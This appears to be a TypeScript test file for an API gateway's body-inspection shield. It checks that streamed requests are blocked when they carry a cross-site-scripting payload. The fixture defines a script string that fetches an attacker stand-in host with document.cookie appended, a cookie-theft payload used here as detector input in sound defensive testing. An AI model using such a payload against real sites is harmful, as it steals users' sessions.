// Bodies that are inspected while they come: in parts, and longer than is read as a whole.

import { describe, expect, test } from 'vitest'
import { createInspectionShield, type InspectionRules } from '../../../src/gateway/shields/index.ts'
import { fronts } from '../front/fronts.ts'
import { connectRaw } from '../front/raw-client.ts'
import type { Script } from '../front/recording-upstream.ts'
import { standShielded } from './shielded.ts'

const document = {
  openapi: '3.1.0',
  info: { title: 'shop', version: '1' },
  paths: { '/files': { post: { requestBody: { content: { 'application/octet-stream': { schema: {} } } }, responses: {} } } },
}
const most = 10_000
const rules: InspectionRules = {
  mode: 'enforce',
  enforce: [],
  skip: [],
  secrets: 'off',
  personal: 'off',
  allow: [],
  bodyBytes: most,
  beyond: 'look',
  answerBytes: 1000,
}

const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
const prose = 'The parcel stood at the door, and nobody was at home. '.repeat(300)
const quoted = (text: string) => JSON.stringify(text).slice(1, -1)
const part = (head: string, data: string) => `--X\r\nContent-Disposition: form-data; ${head}\r\n\r\n${data}\r\n`

/** Each with what stands before an attack and is longer than is read as a whole, the attack, and the rest. */
const kinds: readonly (readonly [name: string, type: string, before: string, attack: string, after: string, where: string])[] = [
  ['JSON', 'application/json', `{"note":"${prose}","name":"`, quoted(script), `","more":"${prose}"}`, 'body.name'],
  ['lines of JSON', 'application/x-ndjson', `{"note":"${prose}"}\n{"name":"`, quoted(script), `"}\n{"more":"${prose}"}\n`, 'body.name'],
  [
    'a form with a file',
    'multipart/form-data; boundary=X',
    `${part('name="title"', 'a file')}--X\r\nContent-Disposition: form-data; name="file"; filename="a.html"\r\n\r\n${prose}`,
    script,
    `${prose}\r\n--X--\r\n`,
    'body.file',
  ],
  ['a file', 'application/octet-stream', prose, script, prose, 'body'],
]

const head = (type: string, framing: string) => `POST /files HTTP/1.1\r\nHost: a\r\nContent-Type: ${type}\r\n${framing}\r\n\r\n`
const turn = () => new Promise((settle) => setImmediate(settle))

describe.each(fronts)('by the %s front', (_front, start) => {
  const stand = (more: Partial<InspectionRules> = {}, script?: Script) =>
    standShielded(start, {
      shields: [createInspectionShield({ ...rules, ...more }, { schemas: {} })],
      document,
      ...(script === undefined ? {} : { script }),
    })

  test.each(kinds)('%s that is long and clean goes on byte for byte', async (_name, type, before, _attack, after) => {
    const gateway = await stand()
    const text = `${before}harmless${after}`
    const client = await connectRaw(gateway.port)
    client.send(head(type, `Content-Length: ${text.length}`))
    for (let at = 0; at < text.length; at += 7001) {
      client.send(text.slice(at, at + 7001))
      await turn()
    }
    expect((await client.answers(1)).map(({ status }) => status)).toEqual([200])
    expect(gateway.bodies()).toEqual([text])
    expect((await gateway.notes(1))[0]?.objections).toBeUndefined()
  })

  test.each(kinds)('%s: an attack behind what has gone on breaks the request off', async (_name, type, before, attack, after, where) => {
    const gateway = await stand()
    const client = await connectRaw(gateway.port)
    const length = before.length + attack.length + after.length
    client.send(head(type, `Content-Length: ${length}`))
    client.send(before)
    // What is longer than is read as a whole has begun to go on.
    await gateway.untilSeen('parcel stood')
    const middle = attack.length >> 1
    client.send(attack.slice(0, middle))
    await turn()
    client.send(attack.slice(middle) + after.slice(0, 9000))
    expect((await client.answers(1)).map(({ status }) => status)).toEqual([403])
    const [note] = await gateway.notes(1)
    expect(note?.verdict).toMatchObject({ kind: 'refuse', code: 'payload-refused' })
    expect(note?.objections?.[0]?.reason).toContain(`cross-site-scripting in ${where}:`)
    // The application has a request that never became whole, on a connection that nobody uses again.
    await gateway.untilClosed()
    const [came = ''] = gateway.bodies()
    expect(came.length).toBeLessThan(length)
    expect(came.includes('document.cookie')).toBe(false)
    expect(gateway.pool.counts).toEqual({ all: 0, idle: 0, waiting: 0 })
  })

  test('an attack in what is held is refused at once, and the application sees nothing of it', async () => {
    const gateway = await stand()
    const client = await connectRaw(gateway.port)
    client.send(`${head('application/json', 'Content-Length: 500000')}{"name":"${quoted(script).slice(0, 20)}`)
    await turn()
    client.send(`${quoted(script).slice(20)}",`)
    expect((await client.answers(1)).map(({ status }) => status)).toEqual([403])
    expect(gateway.came().join('')).toBe('')
  })

  test('what is long and cannot be looked at as it comes is refused, files are noted', async () => {
    for (const [type, text, status] of [
      ['application/json', `{"a":1,}${prose}`, 403],
      ['text/plain', prose, 403],
      ['multipart/form-data; boundary=X', `no form ${prose}`, 200],
      ['image/png; half', prose, 200],
    ] as const) {
      const gateway = await stand()
      const client = await connectRaw(gateway.port)
      client.send(`${head(type, `Content-Length: ${text.length}`)}${text}`)
      expect((await client.answers(1)).map((answer) => answer.status)).toEqual([status])
      expect((await gateway.notes(1))[0]?.objections?.[0]?.reason).toBe(`the body is larger than ${most} bytes and was not looked at`)
    }
  })

  test('to observe is to note it, and to change nothing', async () => {
    for (const [, type, before, attack, after] of kinds) {
      const gateway = await stand({ mode: 'observe' })
      const text = `${before}${attack}${after}`
      const client = await connectRaw(gateway.port)
      client.send(head(type, `Content-Length: ${text.length}`))
      for (let at = 0; at < text.length; at += 5003) {
        client.send(text.slice(at, at + 5003))
        await turn()
      }
      expect((await client.answers(1)).map(({ status }) => status)).toEqual([200])
      expect(gateway.bodies()).toEqual([text])
      const [note] = await gateway.notes(1)
      expect(note?.objections?.map(({ code, isEnforced }) => [code, isEnforced])).toEqual([['payload-refused', false]])
    }
  })

  test('what nobody wants to be looked at is noted or refused', async () => {
    for (const [beyond, status] of [
      ['note', 200],
      ['refuse', 403],
    ] as const) {
      const gateway = await stand({ beyond })
      const text = JSON.stringify({ note: prose, name: script })
      const client = await connectRaw(gateway.port)
      client.send(`${head('application/json', `Content-Length: ${text.length}`)}${text}`)
      expect((await client.answers(1)).map((answer) => answer.status)).toEqual([status])
    }
  })

  test('an application that answered before all came is not spoken for', async () => {
    const early: Script = () => undefined
    const gateway = await standShielded(start, {
      shields: [createInspectionShield(rules, { schemas: {} })],
      document,
      script: early,
      onHead: (_request, socket) => {
        socket.write('HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n5\r\nearly\r\n')
      },
    })
    const client = await connectRaw(gateway.port)
    client.send(`${head('application/octet-stream', 'Content-Length: 100000')}${prose}`)
    await client.untilText('early')
    client.send(script + prose)
    await gateway.notes(1)
    expect(gateway.outcomes.map(({ ended }) => ended)).toEqual(['upstream-cut'])
    const [answer] = await client.answers(1)
    expect(answer?.isWhole).toBe(false)
  })
})
